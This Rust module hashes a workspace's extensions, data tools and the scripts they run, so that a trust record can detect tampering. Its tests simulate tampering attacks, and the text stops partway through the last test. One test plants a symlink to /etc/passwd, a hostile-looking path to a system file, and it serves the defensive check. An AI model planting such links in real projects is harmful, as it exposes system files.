//! The hash a trust record names: every file of a workspace that can run
//! or decide (the rules are in [`super`], rule 3), read without following
//! links out of an extension's folder, never opening a FIFO, and within
//! caps so that a hostile repository cannot make the hash itself a denial
//! of service.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Read;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{FileTypeExt, OpenOptionsExt};
use std::path::{Path, PathBuf};

use nix::libc;
use serde::Serialize;
use sha2::{Digest, Sha256};

use crate::discovery::named::{NamedFiles, named_paths, scripts_a_script_runs};
use crate::manifest::{MANIFEST_FILE, Manifest};
use crate::text::hex;
use crate::user_file::Stamp;

/// The most bytes of covered files hashed for one workspace: 256 MiB. A
/// workspace holding more cannot be trusted (the hash would take too long
/// to check at every start).
pub const MAX_HASHED_BYTES: u64 = 256 * 1024 * 1024;

/// The most covered entries in one workspace.
pub const MAX_COVERED_FILES: usize = 100_000;

/// Where a workspace's extensions live, relative to it.
pub const EXTENSIONS_DIR: &str = ".zot/extensions";

/// Where a workspace's data tools live, relative to it (and in each data
/// package of `.zot/packages/`, its `tools/`).
pub const TOOL_DIRS: [&str; 2] = [".zot/tools", ".shiro/tools"];

/// The workspace's files could not be hashed, so it cannot be trusted.
#[derive(Debug, thiserror::Error)]
pub enum ScanError {
    /// A covered file or folder could not be read.
    #[error("cannot read `{}`: {source}", path.display())]
    Read {
        /// The file or folder.
        path: PathBuf,
        /// The I/O error.
        source: std::io::Error,
    },
    /// The covered files hold more than the cap.
    #[error("its extensions and data tools hold more than {}", crate::text::limit_size(*limit))]
    TooLarge {
        /// The cap, in bytes.
        limit: u64,
    },
    /// There are more covered entries than the cap.
    #[error("its extensions and data tools hold more than {limit} files")]
    TooMany {
        /// The cap.
        limit: usize,
    },
}

/// What one covered entry is.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case", tag = "type")]
pub enum EntryKind {
    /// A regular file, read and hashed.
    File {
        /// Its size.
        bytes: u64,
    },
    /// A symbolic link, hashed as its text (and, in a tools folder, the
    /// file it leads to).
    Symlink {
        /// The link text.
        target: PathBuf,
    },
    /// A FIFO, socket or device: never opened, hashed as its type.
    Special {
        /// `fifo`, `socket`, `block device`, `char device`.
        what: &'static str,
    },
}

/// One covered entry.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Covered {
    /// The path relative to the workspace, e.g. `.zot/extensions/x/run.sh`.
    pub path: PathBuf,
    /// What it is.
    #[serde(flatten)]
    pub kind: EntryKind,
}

/// Everything in a workspace that trust covers, hashed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Contents {
    /// The workspace, canonical.
    pub workspace: PathBuf,
    /// The covered entries, sorted by path.
    pub covered: Vec<Covered>,
    /// The bytes read and hashed.
    pub bytes: u64,
    /// SHA-256 (lowercase hex) over every covered entry's path and content.
    pub sha256: String,
    /// What a start checks the files it loads against.
    pub(super) pins: Pins,
}

/// What a start checks the files it loads against
/// ([`super::Assessment::expected`]); an assessment keeps only this of
/// what it hashed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Pins {
    /// The content digest of every regular file hashed in an extension's
    /// folder, named by its manifest or read as a data tool, by the file's
    /// real path.
    pub(super) by_real_path: BTreeMap<PathBuf, [u8; 32]>,
    /// The real folders whose files trust covers: the workspace first, then
    /// each extension folder and each tools folder (which a link may put
    /// elsewhere).
    pub(super) roots: Vec<PathBuf>,
}

/// Caps on one scan.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Caps {
    pub(crate) bytes: u64,
    pub(crate) files: usize,
}

impl Default for Caps {
    fn default() -> Self {
        Self {
            bytes: MAX_HASHED_BYTES,
            files: MAX_COVERED_FILES,
        }
    }
}

impl Contents {
    /// Hashes every covered entry of `workspace` (see the module rules).
    ///
    /// # Errors
    ///
    /// [`ScanError`] when a covered entry cannot be read or the caps are
    /// exceeded: the workspace then cannot be trusted.
    pub fn scan(workspace: &Path) -> Result<Self, ScanError> {
        Self::scan_with(workspace, Caps::default())
    }

    pub(crate) fn scan_with(workspace: &Path, caps: Caps) -> Result<Self, ScanError> {
        let workspace = std::fs::canonicalize(workspace).map_err(|source| ScanError::Read {
            path: workspace.to_owned(),
            source,
        })?;
        let mut scanner = Scanner::new(&workspace, caps);
        scanner.extensions()?;
        for dir in TOOL_DIRS {
            scanner.tools(Path::new(dir))?;
        }
        // A data package installed for the project brings tools too.
        let packages = Path::new(".zot").join(crate::home::PACKAGES_DIR);
        for name in sorted_names(&workspace.join(&packages)) {
            // Its manifest too: switching a package on (`enabled`, `kind`)
            // changes what runs as surely as a tool's template does.
            let package = packages.join(name);
            scanner.data_file(&package.join(crate::manifest::MANIFEST_FILE))?;
            scanner.tools(&package.join("tools"))?;
        }
        let mut roots = vec![workspace.clone()];
        roots.append(&mut scanner.roots);
        let (entries, bytes, by_real_path) = (scanner.entries, scanner.bytes, scanner.by_real_path);
        let mut hasher = Sha256::new();
        hasher.update(b"zotbox-trust-v1");
        let mut covered = Vec::with_capacity(entries.len());
        for (path, (kind, digest)) in entries {
            let tag: u8 = match kind {
                EntryKind::File { .. } => 0,
                EntryKind::Symlink { .. } => 1,
                EntryKind::Special { .. } => 2,
            };
            let bytes = path.as_os_str().as_bytes();
            hasher.update([tag]);
            hasher.update((bytes.len() as u64).to_le_bytes());
            hasher.update(bytes);
            hasher.update(digest);
            covered.push(Covered { path, kind });
        }
        Ok(Self {
            workspace,
            covered,
            bytes,
            sha256: hex(&hasher.finalize()),
            pins: Pins {
                by_real_path,
                roots,
            },
        })
    }

    /// Whether the workspace brings nothing that needs trust.
    pub fn is_empty(&self) -> bool {
        self.covered.is_empty()
    }

    /// Whether what the covered link `path` (relative to the workspace)
    /// leads to was hashed too: a folder walked or a file read. A link
    /// whose target was not (a file outside the workspace, one no manifest
    /// names, nothing at all) is covered by its text only, so a change
    /// where it leads revokes nothing: the review says so.
    pub fn follows_link(&self, path: &Path) -> bool {
        let pins = &self.pins;
        std::fs::canonicalize(self.workspace.join(path)).is_ok_and(|real| {
            // The first root is the workspace, which is not walked whole.
            pins.by_real_path.contains_key(&real) || pins.roots.iter().skip(1).any(|r| *r == real)
        })
    }

    /// What a start checks the files it loads against: all an assessment
    /// keeps (the list of entries is for the review).
    pub(super) fn into_pins(self) -> Pins {
        self.pins
    }
}

/// One entry of a folder scanned by [`scan_folder`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FolderEntry {
    /// The path relative to the folder, `/`-separated.
    pub path: String,
    /// What it is.
    pub kind: EntryKind,
    /// SHA-256 of its content (a link's text, a special file's type).
    pub sha256: [u8; 32],
    /// A regular file with an execute bit.
    pub executable: bool,
}

/// Every entry below `dir` (folders walked, not listed), hashed by the
/// same rules and caps as a workspace's extension folder: links hashed as
/// their text and never followed, FIFOs and devices by their type, never
/// opened. The lockfile's tree digest of an installed extension.
///
/// # Errors
///
/// [`ScanError`] when an entry cannot be read or the caps are exceeded.
pub fn scan_folder(dir: &Path) -> Result<Vec<FolderEntry>, ScanError> {
    let mut scanner = Scanner::new(dir, Caps::default());
    scanner.walk(dir, Path::new(""))?;
    let executable = std::mem::take(&mut scanner.executable);
    Ok(scanner
        .entries
        .into_iter()
        .map(|(path, (kind, sha256))| FolderEntry {
            executable: executable.contains(&path),
            path: path.to_string_lossy().into_owned(),
            kind,
            sha256,
        })
        .collect())
}

/// What a start expects of a FIFO, socket or device it finds where trust
/// found one: a digest no content is known to have, so that a regular file
/// swapped in for it never matches (and the FIFO itself is refused as it
/// is opened, as not a regular file).
pub(super) const NOT_A_FILE: [u8; 32] = [0xff; 32];

/// The SHA-256 of the file at `path` (links followed), read as a scan
/// reads it: non-blocking, within [`MAX_HASHED_BYTES`], from the digests
/// remembered for an unchanged file when there is one; [`NOT_A_FILE`] for
/// a FIFO, socket or device, which is never read.
///
/// # Errors
///
/// [`ScanError`] when it cannot be read or is larger than the cap.
pub(super) fn hash_file(path: &Path) -> Result<[u8; 32], ScanError> {
    let mut scanner = Scanner::new(path, Caps::default());
    Ok(match scanner.read(path, true)? {
        Digested::File { digest, .. } => digest,
        Digested::Special(_) => NOT_A_FILE,
    })
}

struct Scanner<'a> {
    workspace: &'a Path,
    caps: Caps,
    bytes: u64,
    // Entries met while walking extension folders, folders included.
    visited: usize,
    // relative path → (kind, digest of the content)
    entries: BTreeMap<PathBuf, (EntryKind, [u8; 32])>,
    // The regular files with an execute bit (the lockfile records it).
    executable: BTreeSet<PathBuf>,
    // The extension folder being walked, as reached and as its real path.
    folder: Option<(PathBuf, PathBuf)>,
    // The real extension and tools folders met.
    roots: Vec<PathBuf>,
    // real path → content digest, of files in extension folders, named by
    // their manifests, or in tools folders.
    by_real_path: BTreeMap<PathBuf, [u8; 32]>,
}

impl<'a> Scanner<'a> {
    fn new(workspace: &'a Path, caps: Caps) -> Self {
        Self {
            workspace,
            caps,
            bytes: 0,
            visited: 0,
            entries: BTreeMap::new(),
            executable: BTreeSet::new(),
            folder: None,
            roots: Vec::new(),
            by_real_path: BTreeMap::new(),
        }
    }

    fn add(&mut self, path: PathBuf, kind: EntryKind, digest: [u8; 32]) -> Result<(), ScanError> {
        self.entries.insert(path, (kind, digest));
        if self.entries.len() > self.caps.files {
            return Err(ScanError::TooMany {
                limit: self.caps.files,
            });
        }
        Ok(())
    }

    /// Every extension folder, as discovery (and zot) find them: the
    /// folders, or links to folders, directly in `.zot/extensions` that
    /// hold an `extension.json`. Anything else there runs nothing.
    fn extensions(&mut self) -> Result<(), ScanError> {
        let rel_root = Path::new(EXTENSIONS_DIR);
        for name in sorted_names(&self.workspace.join(rel_root)) {
            let rel = rel_root.join(&name);
            let path = self.workspace.join(&rel);
            // Discovery follows the folder itself (only that link), and so
            // does the hash, so the content loaded is the content hashed.
            let is_extension = std::fs::metadata(&path).is_ok_and(|m| m.is_dir())
                && path.join(MANIFEST_FILE).is_file();
            if !is_extension {
                continue;
            }
            if std::fs::symlink_metadata(&path).is_ok_and(|m| m.is_symlink()) {
                self.link(&path, rel.clone())?;
            }
            let real = std::fs::canonicalize(&path).map_err(|source| ScanError::Read {
                path: path.clone(),
                source,
            })?;
            self.roots.push(real.clone());
            self.folder = Some((path.clone(), real.clone()));
            let walked = self.walk(&path, &rel);
            self.folder = None;
            walked?;
            self.named_files(&path, &real, &rel)?;
        }
        Ok(())
    }

    /// Every entry below `dir`, without following symlinks.
    fn walk(&mut self, dir: &Path, rel: &Path) -> Result<(), ScanError> {
        let mut pending = vec![(dir.to_owned(), rel.to_owned())];
        while let Some((dir, rel)) = pending.pop() {
            let entries = std::fs::read_dir(&dir).map_err(|source| ScanError::Read {
                path: dir.clone(),
                source,
            })?;
            for entry in entries {
                let entry = entry.map_err(|source| ScanError::Read {
                    path: dir.clone(),
                    source,
                })?;
                // Folders count too: a tree of empty folders is no cheaper to walk.
                self.visited += 1;
                if self.visited > self.caps.files {
                    return Err(ScanError::TooMany {
                        limit: self.caps.files,
                    });
                }
                let path = entry.path();
                let rel = rel.join(entry.file_name());
                let kind = entry.file_type().map_err(|source| ScanError::Read {
                    path: path.clone(),
                    source,
                })?;
                if kind.is_dir() {
                    pending.push((path, rel));
                } else if kind.is_symlink() {
                    self.link(&path, rel)?;
                } else {
                    // Real folders lie between it and the extension's own.
                    let real = self.folder.as_ref().and_then(|(reached, real)| {
                        path.strip_prefix(reached).ok().map(|p| real.join(p))
                    });
                    if kind.is_file() {
                        self.file(&path, rel, false, real)?;
                    } else {
                        self.special(&kind, rel, real)?;
                    }
                }
            }
        }
        Ok(())
    }

    /// The files a manifest makes zot or zotbox run that lie in the
    /// workspace outside the extension's folder (`"exec": "../../../bin/x"`,
    /// `"args": ["../../../scripts/x.py"]`, an `exec` through a symlink
    /// leading out): editing them changes what runs as surely as editing
    /// the folder. Which files a manifest names is [`named_paths`]'s rule,
    /// which the launch step's check shares. `folder` is `dir`'s real path.
    fn named_files(&mut self, dir: &Path, folder: &Path, rel: &Path) -> Result<(), ScanError> {
        let Ok(manifest) = Manifest::load(&dir.join(MANIFEST_FILE)) else {
            // An invalid manifest runs nothing; its text is hashed above.
            return Ok(());
        };
        for candidate in named_paths(&manifest) {
            self.cover_named(&candidate, Some(folder), rel)?;
            self.follow_script(&candidate, dir, Some(folder), rel, 0)?;
        }
        Ok(())
    }

    /// Covers what the shell script at `path` runs by name
    /// ([`scripts_a_script_runs`]: what it sources, the scripts it hands an
    /// interpreter), read from `cwd`, where the command runs, and what
    /// those run in turn, three scripts deep.
    fn follow_script(
        &mut self,
        path: &Path,
        cwd: &Path,
        skip: Option<&Path>,
        rel: &Path,
        depth: usize,
    ) -> Result<(), ScanError> {
        use std::io::Read as _;
        /// The most of a script read for what it runs.
        const MAX_SCRIPT_BYTES: u64 = 256 * 1024;
        if depth >= 3 || !path.is_file() {
            return Ok(());
        }
        let mut text = Vec::new();
        let read = std::fs::File::open(path)
            .and_then(|file| file.take(MAX_SCRIPT_BYTES).read_to_end(&mut text));
        let shell = text.starts_with(b"#!")
            && text
                .split(|&b| b == b'\n')
                .next()
                .is_some_and(|line| line.windows(2).any(|w| w == b"sh"));
        if read.is_err() || !(shell || path.extension().is_some_and(|e| e == "sh")) {
            return Ok(());
        }
        let text = String::from_utf8_lossy(&text);
        for script in scripts_a_script_runs(&text) {
            let candidate = cwd.join(script);
            self.cover_named(&candidate, skip, rel)?;
            self.follow_script(&candidate, cwd, skip, rel, depth + 1)?;
        }
        Ok(())
    }

    /// Covers `candidate`, a file that what `rel` describes runs, when it
    /// is a regular file of the workspace not covered already (and not in
    /// `skip`, a folder hashed whole).
    fn cover_named(
        &mut self,
        candidate: &Path,
        skip: Option<&Path>,
        rel: &Path,
    ) -> Result<(), ScanError> {
        let Ok(real) = std::fs::canonicalize(candidate) else {
            return Ok(());
        };
        if skip.is_some_and(|folder| real.starts_with(folder)) || !real.is_file() {
            return Ok(());
        }
        let Ok(inside) = real.strip_prefix(self.workspace) else {
            // Outside the workspace: not the workspace's content.
            return Ok(());
        };
        let inside = inside.to_owned();
        if !self.entries.contains_key(&inside) {
            tracing::debug!(
                "`{}` names `{}`: covered by trust",
                rel.display(),
                inside.display()
            );
            self.file(&real, inside, true, Some(real.clone()))?;
        }
        Ok(())
    }

    /// The workspace files a shell tool's template names (`sh
    /// scripts/build.sh`, `./tools/lint`): the command runs them, so
    /// editing one changes what the trusted tool does. A word holding
    /// `{arg}` is the model's choice, not a file of the tool.
    fn tool_named_files(&mut self, path: &Path, rel: &Path) -> Result<(), ScanError> {
        use crate::data::tool::{DataTool, ToolKind};
        let Ok(text) = crate::data::read_file(path) else {
            return Ok(());
        };
        // The files named are those of the text that was hashed, or the
        // tool trusted would be one whose scripts were never looked at.
        let hashed = std::fs::canonicalize(path)
            .ok()
            .and_then(|real| self.by_real_path.get(&real));
        if hashed.is_some_and(|digest| *digest != <[u8; 32]>::from(Sha256::digest(&text))) {
            return Err(ScanError::Read {
                path: path.to_owned(),
                source: std::io::Error::other("it changed while it was being read; review again"),
            });
        }
        let Ok(parsed) = DataTool::parse(&text, path, crate::data::DataOrigin::Project) else {
            // A tool that does not load runs nothing; its text is hashed.
            return Ok(());
        };
        let ToolKind::Shell { command, .. } = &parsed.value.kind else {
            return Ok(());
        };
        self.template_named_files(command, rel)
    }

    /// The workspace files `command`'s words name ([`NamedFiles`]),
    /// each tried from the workspace, where the tool runs. A word holding
    /// `{arg}` is the model's choice, not a file of the tool.
    fn template_named_files(&mut self, command: &str, rel: &Path) -> Result<(), ScanError> {
        let mut named = Vec::new();
        NamedFiles::from(self.workspace.to_owned(), true, &mut named).line(command);
        for candidate in named {
            self.cover_named(&candidate, None, rel)?;
            self.follow_script(&candidate, self.workspace, None, rel, 0)?;
        }
        Ok(())
    }

    /// The entries directly in a tools folder, as the loader reads them
    /// (following a symlink to a regular file).
    fn tools(&mut self, rel_root: &Path) -> Result<(), ScanError> {
        // A tools folder linked elsewhere still holds the workspace's tools.
        if let Ok(real) = std::fs::canonicalize(self.workspace.join(rel_root)) {
            self.roots.push(real);
        }
        for name in sorted_names(&self.workspace.join(rel_root)) {
            let rel = rel_root.join(&name);
            if self.data_file(&rel)? {
                self.tool_named_files(&self.workspace.join(&rel), &rel)?;
            }
        }
        Ok(())
    }

    /// Covers the data file `rel` as the loader reads it: a link by its
    /// text and the file it leads to, a FIFO or device by its type. Whether
    /// it is a file (directly or through a link) whose text may be read.
    fn data_file(&mut self, rel: &Path) -> Result<bool, ScanError> {
        let path = self.workspace.join(rel);
        let Ok(meta) = std::fs::symlink_metadata(&path) else {
            return Ok(false);
        };
        let kind = meta.file_type();
        if kind.is_symlink() {
            // The link text and what the loader reads through it.
            let target = read_link(&path)?;
            let mut hasher = Sha256::new();
            hasher.update(target.as_os_str().as_bytes());
            if std::fs::metadata(&path).is_ok_and(|m| m.is_file()) {
                match self.read(&path, true)? {
                    Digested::File { digest, .. } => {
                        if let Ok(real) = std::fs::canonicalize(&path) {
                            self.by_real_path.insert(real, digest);
                        }
                        hasher.update(digest);
                    }
                    Digested::Special(what) => hasher.update(what.as_bytes()),
                }
            }
            self.add(
                rel.to_owned(),
                EntryKind::Symlink { target },
                hasher.finalize().into(),
            )?;
            Ok(true)
        } else if kind.is_file() {
            let real = std::fs::canonicalize(&path).ok();
            self.file(&path, rel.to_owned(), false, real)?;
            Ok(true)
        } else if !kind.is_dir() {
            let real = std::fs::canonicalize(&path).ok();
            self.special(&kind, rel.to_owned(), real)?;
            Ok(false)
        } else {
            Ok(false)
        }
    }

    fn link(&mut self, path: &Path, rel: PathBuf) -> Result<(), ScanError> {
        let target = read_link(path)?;
        let digest = Sha256::digest(target.as_os_str().as_bytes()).into();
        self.add(rel, EntryKind::Symlink { target }, digest)
    }

    fn special(
        &mut self,
        kind: &std::fs::FileType,
        rel: PathBuf,
        real: Option<PathBuf>,
    ) -> Result<(), ScanError> {
        if let Some(real) = real {
            self.by_real_path.insert(real, NOT_A_FILE);
        }
        let what = special_kind(kind);
        let digest = Sha256::digest(what.as_bytes()).into();
        self.add(rel, EntryKind::Special { what }, digest)
    }

    /// Hashes the regular file `path`, covered as `rel`; its digest is kept
    /// by `real`, its real path, when a start may load it.
    fn file(
        &mut self,
        path: &Path,
        rel: PathBuf,
        follow: bool,
        real: Option<PathBuf>,
    ) -> Result<(), ScanError> {
        match self.read(path, follow)? {
            Digested::File {
                digest,
                bytes,
                executable,
            } => {
                if executable {
                    self.executable.insert(rel.clone());
                }
                if let Some(real) = real {
                    self.by_real_path.insert(real, digest);
                }
                self.add(rel, EntryKind::File { bytes }, digest)
            }
            Digested::Special(what) => {
                if let Some(real) = real {
                    self.by_real_path.insert(real, NOT_A_FILE);
                }
                let digest = Sha256::digest(what.as_bytes()).into();
                self.add(rel, EntryKind::Special { what }, digest)
            }
        }
    }

    /// Hashes one regular file, within the byte cap. Opened non-blocking
    /// (a FIFO swapped in cannot hang the scan) and, unless `follow`,
    /// without following a symlink swapped in; anything but a regular file
    /// once opened is reported by its type, unread.
    fn read(&mut self, path: &Path, follow: bool) -> Result<Digested, ScanError> {
        let read_err = |source| ScanError::Read {
            path: path.to_owned(),
            source,
        };
        let mut flags = libc::O_NONBLOCK | libc::O_CLOEXEC;
        if !follow {
            flags |= libc::O_NOFOLLOW;
        }
        let file = std::fs::OpenOptions::new()
            .read(true)
            .custom_flags(flags)
            .open(path)
            .map_err(read_err)?;
        let meta = file.metadata().map_err(read_err)?;
        if !meta.is_file() {
            return Ok(Digested::Special(special_kind(&meta.file_type())));
        }
        let budget = self.caps.bytes.saturating_sub(self.bytes);
        let executable = std::os::unix::fs::PermissionsExt::mode(&meta.permissions()) & 0o111 != 0;
        let stamp = Stamp::of(&meta);
        if let Some(digest) = remembered(&stamp) {
            if stamp.size > budget {
                return Err(ScanError::TooLarge {
                    limit: self.caps.bytes,
                });
            }
            self.bytes += stamp.size;
            return Ok(Digested::File {
                digest,
                bytes: stamp.size,
                executable,
            });
        }
        let mut hasher = Sha256::new();
        let mut reader = file.take(budget.saturating_add(1));
        let mut chunk = vec![0u8; 64 * 1024];
        let mut read: u64 = 0;
        loop {
            let n = reader.read(&mut chunk).map_err(read_err)?;
            if n == 0 {
                break;
            }
            read += n as u64;
            if read > budget {
                return Err(ScanError::TooLarge {
                    limit: self.caps.bytes,
                });
            }
            hasher.update(&chunk[..n]);
        }
        self.bytes += read;
        let digest: [u8; 32] = hasher.finalize().into();
        // Only a file that did not change while it was read, and whose last
        // change is long enough ago, is remembered.
        if read == stamp.size
            && file_unchanged(&reader, &stamp)
            && stamp.settled(std::time::SystemTime::now())
        {
            remember(stamp, digest);
        }
        Ok(Digested::File {
            digest,
            bytes: read,
            executable,
        })
    }
}

/// How many file digests one process remembers (a few hundred bytes each).
const REMEMBERED: usize = 4096;

/// Digests of files this process hashed, by their [`Stamp`]: every start
/// of an installed extension re-checks its files against the lock, and the
/// shared host starts the same ones again and again (an 18 MB Python
/// component would otherwise be read and hashed at every start).
fn digests() -> &'static std::sync::Mutex<std::collections::HashMap<Stamp, [u8; 32]>> {
    static DIGESTS: std::sync::OnceLock<
        std::sync::Mutex<std::collections::HashMap<Stamp, [u8; 32]>>,
    > = std::sync::OnceLock::new();
    DIGESTS.get_or_init(Default::default)
}

fn remembered(stamp: &Stamp) -> Option<[u8; 32]> {
    digests()
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner)
        .get(stamp)
        .copied()
}

fn remember(stamp: Stamp, digest: [u8; 32]) {
    let mut digests = digests()
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    if digests.len() >= REMEMBERED {
        digests.clear();
    }
    digests.insert(stamp, digest);
}

/// Whether the file behind `reader` still has `stamp` after it was read.
fn file_unchanged(reader: &std::io::Take<std::fs::File>, stamp: &Stamp) -> bool {
    reader
        .get_ref()
        .metadata()
        .is_ok_and(|meta| Stamp::of(&meta) == *stamp)
}

/// What reading one covered path found.
enum Digested {
    File {
        digest: [u8; 32],
        bytes: u64,
        executable: bool,
    },
    Special(&'static str),
}

fn read_link(path: &Path) -> Result<PathBuf, ScanError> {
    std::fs::read_link(path).map_err(|source| ScanError::Read {
        path: path.to_owned(),
        source,
    })
}

fn special_kind(kind: &std::fs::FileType) -> &'static str {
    if kind.is_fifo() {
        "fifo"
    } else if kind.is_socket() {
        "socket"
    } else if kind.is_block_device() {
        "block device"
    } else if kind.is_char_device() {
        "char device"
    } else {
        "special file"
    }
}

/// The entry names of `dir` (followed if it is a link), sorted; none when
/// it cannot be read: discovery and the loaders then find nothing there
/// either.
fn sorted_names(dir: &Path) -> Vec<std::ffi::OsString> {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return Vec::new();
    };
    let mut names: Vec<_> = entries
        .filter_map(Result::ok)
        .map(|entry| entry.file_name())
        .collect();
    names.sort();
    names
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use std::os::unix::fs::symlink;

    use super::*;

    #[test]
    fn a_digest_is_remembered_only_for_a_settled_stamp_and_only_that_stamp() {
        let now = std::time::SystemTime::now();
        let seconds = |t: std::time::SystemTime| {
            i64::try_from(t.duration_since(std::time::UNIX_EPOCH).unwrap().as_secs()).unwrap()
        };
        let stamp = |ctime: i64| Stamp {
            dev: 1,
            ino: 2,
            size: 3,
            mtime: (ctime, 0),
            ctime: (ctime, 0),
        };
        // Changed in this tick, or a second ago: could still change unseen.
        assert!(!stamp(seconds(now)).settled(now));
        assert!(!stamp(seconds(now) - 1).settled(now));
        assert!(stamp(seconds(now) - 3).settled(now));
        // A clock set back (a change "in the future") is never settled.
        assert!(!stamp(seconds(now) + 60).settled(now));
        let old = stamp(seconds(now) - 60);
        remember(old, [7; 32]);
        assert_eq!(remembered(&old), Some([7; 32]));
        // Any other field: another version of the file.
        for other in [
            Stamp { size: 4, ..old },
            Stamp { ino: 9, ..old },
            Stamp {
                ctime: (old.ctime.0, 1),
                ..old
            },
            Stamp {
                mtime: (old.mtime.0 + 1, 0),
                ..old
            },
        ] {
            assert_eq!(remembered(&other), None, "{other:?}");
        }
    }

    #[test]
    fn a_file_rewritten_with_its_old_size_and_times_is_hashed_again() {
        let tmp = tempfile::tempdir().unwrap();
        let dir = tmp.path().join("ext");
        std::fs::create_dir_all(&dir).unwrap();
        let file = dir.join("guest.wasm");
        std::fs::write(&file, "aaaa").unwrap();
        let digest = |dir: &Path| scan_folder(dir).unwrap()[0].sha256;
        let first = digest(&dir);
        let modified = std::fs::metadata(&file).unwrap().modified().unwrap();
        // Attack: the same size, the old mtime put back.
        std::fs::write(&file, "bbbb").unwrap();
        std::fs::File::options()
            .write(true)
            .open(&file)
            .unwrap()
            .set_modified(modified)
            .unwrap();
        let second = digest(&dir);
        assert_ne!(first, second);
        assert_eq!(second, <[u8; 32]>::from(Sha256::digest(b"bbbb")));
    }

    struct Fixture {
        _tmp: tempfile::TempDir,
        ws: PathBuf,
    }

    fn fixture() -> Fixture {
        let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = std::fs::canonicalize(tmp.path()).unwrap_or_else(|e| panic!("{e}"));
        let ws = root.join("ws");
        let ext = ws.join(".zot/extensions/helper");
        std::fs::create_dir_all(&ext).unwrap_or_else(|e| panic!("{e}"));
        write(
            &ext.join("extension.json"),
            r#"{"name":"helper","exec":"sh","args":["-c","./run.sh"]}"#,
        );
        write(&ext.join("run.sh"), "touch marker\n");
        Fixture { _tmp: tmp, ws }
    }

    fn write(path: &Path, text: &str) {
        if let Some(dir) = path.parent() {
            std::fs::create_dir_all(dir).unwrap_or_else(|e| panic!("{e}"));
        }
        std::fs::write(path, text).unwrap_or_else(|e| panic!("{e}"));
    }

    fn sha(ws: &Path) -> String {
        Contents::scan(ws).unwrap_or_else(|e| panic!("{e}")).sha256
    }

    #[test]
    fn a_tool_rewritten_between_its_hash_and_its_reading_is_refused() {
        // Attack: the scan hashed the tool's text, then read it again for
        // the scripts it names; a tool rewritten between the two would be
        // trusted as hashed with the scripts of the other text covered.
        let f = fixture();
        let tool = f.ws.join(".zot/tools/build.json");
        let shell = |script: &str| {
            format!(
                r#"{{"name":"build","description":"b","kind":"shell","command":"sh {script}"}}"#
            )
        };
        write(&tool, &shell("a.sh"));
        let mut scanner = Scanner::new(&f.ws, Caps::default());
        let real = std::fs::canonicalize(&tool).unwrap_or_else(|e| panic!("{e}"));
        scanner
            .file(
                &tool,
                PathBuf::from(".zot/tools/build.json"),
                false,
                Some(real),
            )
            .unwrap_or_else(|e| panic!("{e}"));
        // Unchanged, it reads.
        assert!(scanner.tool_named_files(&tool, Path::new("t")).is_ok());
        write(&tool, &shell("b.sh"));
        let refused = scanner.tool_named_files(&tool, Path::new("t"));
        assert!(
            matches!(&refused, Err(ScanError::Read { source, .. })
                if source.to_string().contains("changed while it was being read")),
            "{refused:?}"
        );
    }

    #[test]
    fn any_change_to_what_can_run_changes_the_hash() {
        let f = fixture();
        let ext = f.ws.join(".zot/extensions/helper");
        let base = sha(&f.ws);
        // Each case edits the workspace, checks the hash moved, and undoes it.
        type Edit = Box<dyn Fn(&Path)>;
        let cases: Vec<(&str, Edit, Edit)> = vec![
            (
                "one byte of the script",
                Box::new(|e| write(&e.join("run.sh"), "touch markes\n")),
                Box::new(|e| write(&e.join("run.sh"), "touch marker\n")),
            ),
            (
                "a new file deep inside",
                Box::new(|e| write(&e.join("lib/deep/x.py"), "")),
                Box::new(|e| {
                    std::fs::remove_dir_all(e.join("lib")).unwrap_or_else(|e| panic!("{e}"))
                }),
            ),
            (
                "a symlink",
                Box::new(|e| symlink("/etc/passwd", e.join("l")).unwrap_or_else(|e| panic!("{e}"))),
                Box::new(|e| std::fs::remove_file(e.join("l")).unwrap_or_else(|e| panic!("{e}"))),
            ),
            (
                "a data tool",
                Box::new(|e| write(&e.join("../../../.shiro/tools/t.json"), "{}")),
                Box::new(|e| {
                    std::fs::remove_file(e.join("../../../.shiro/tools/t.json"))
                        .unwrap_or_else(|e| panic!("{e}"))
                }),
            ),
        ];
        for (what, edit, undo) in cases {
            edit(&ext);
            assert_ne!(sha(&f.ws), base, "{what}");
            undo(&ext);
            assert_eq!(sha(&f.ws), base, "{what} undone");
        }
        // Plugins and skills are not covered: they need no trust.
        write(&f.ws.join(".zot/plugins/p.json"), "{}");
        write(&f.ws.join(".zot/skills/s.md"), "x");
        assert_eq!(sha(&f.ws), base);
    }

    #[test]
    fn switching_a_workspace_data_package_on_changes_the_hash() {
        // Attack: a package shipped with `"enabled": false` had its tool
        // hashed but never shown (only what loads is reviewed); a later
        // commit flipping the manifest alone left the workspace trusted,
        // and the unseen template ran.
        let f = fixture();
        let kit =
            f.ws.join(".zot")
                .join(crate::home::PACKAGES_DIR)
                .join("kit");
        let manifest = |enabled: bool| {
            format!(r#"{{"name":"kit","version":"1.0.0","kind":"data","enabled":{enabled}}}"#)
        };
        write(&kit.join("extension.json"), &manifest(false));
        write(
            &kit.join("tools/t.json"),
            r#"{"name":"t","description":"t","kind":"shell","command":"id"}"#,
        );
        let off = Contents::scan(&f.ws).unwrap_or_else(|e| panic!("{e}"));
        assert!(
            off.covered
                .iter()
                .any(|c| c.path.ends_with("kit/extension.json")),
            "{:?}",
            off.covered
        );
        write(&kit.join("extension.json"), &manifest(true));
        assert_ne!(sha(&f.ws), off.sha256);
    }

    #[test]
    fn links_are_hashed_as_text_and_never_followed_out_of_an_extension() {
        let f = fixture();
        let ext = f.ws.join(".zot/extensions/helper");
        let outside = f.ws.parent().map(|p| p.join("outside")).unwrap_or_default();
        write(&outside.join("big"), "secret");
        symlink(&outside, ext.join("out")).unwrap_or_else(|e| panic!("{e}"));
        let before = Contents::scan(&f.ws).unwrap_or_else(|e| panic!("{e}"));
